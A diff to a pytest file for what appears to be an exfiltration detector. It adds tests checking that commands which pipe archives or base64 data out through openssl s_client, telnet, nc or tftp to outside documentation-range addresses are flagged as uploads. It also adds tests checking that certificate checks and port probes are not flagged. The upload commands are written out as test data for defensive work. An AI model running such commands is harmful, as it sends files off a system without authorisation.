@@ -313,6 +313,46 @@ def test_a_script_upload_is_judged_by_every_address_it_names(cmd: str) -> None:
     assert ips == ["10.0.0.9", "203.0.113.5"]
 
 
+@pytest.mark.parametrize(
+    ("cmd", "tool", "port"),
+    [
+        (
+            "sh -c 'openssl s_client -quiet -connect 203.0.113.9:443 < /tmp/a.tgz'",
+            "openssl s_client",
+            443,
+        ),
+        (
+            "sh -c 'tar cz /srv | openssl s_client -quiet -connect [2001:db8::9]:8443'",
+            "openssl s_client",
+            8443,
+        ),
+        ("sh -c 'cat /tmp/a.tgz | telnet 203.0.113.9 23'", "telnet", 23),
+        ("sh -c 'echo \"$(base64 /tmp/a.tgz)\" | nc 203.0.113.9 443'", "nc", 443),
+        ("busybox tftp -p -l /tmp/a.tgz -r a.tgz 203.0.113.9", "tftp", None),
+    ],
+)
+def test_pipes_out_fed_with_data_are_uploads(cmd: str, tool: str, port: int | None) -> None:
+    [upload] = [s for s in detector.signals(launch(cmd)) if s.kind is SignalKind.UPLOAD]
+    assert upload.tool == tool
+    assert upload.destination is not None
+    assert upload.destination.port == port
+    assert upload.destination.internal is False
+
+
+@pytest.mark.parametrize(
+    "cmd",
+    [
+        # A certificate check and a port probe: literal text piped in is not collected data.
+        "sh -c 'echo | openssl s_client -connect example.com:443 | openssl x509 -noout'",
+        "sh -c 'printf \"GET / HTTP/1.0\\r\\n\\r\\n\" | nc 203.0.113.9 80'",
+        "openssl s_client -connect example.com:443",
+        "tftp -g -r boot.img 203.0.113.9",
+    ],
+)
+def test_probes_that_send_no_data_are_not_uploads(cmd: str) -> None:
+    assert [s for s in detector.signals(launch(cmd)) if s.kind is SignalKind.UPLOAD] == []
+
+
 def test_git_archive_is_archiving() -> None:
     assert kinds("git archive --format=tar.gz -o /tmp/src.tgz HEAD") == [
         ("archive", "git", "/tmp/src.tgz")
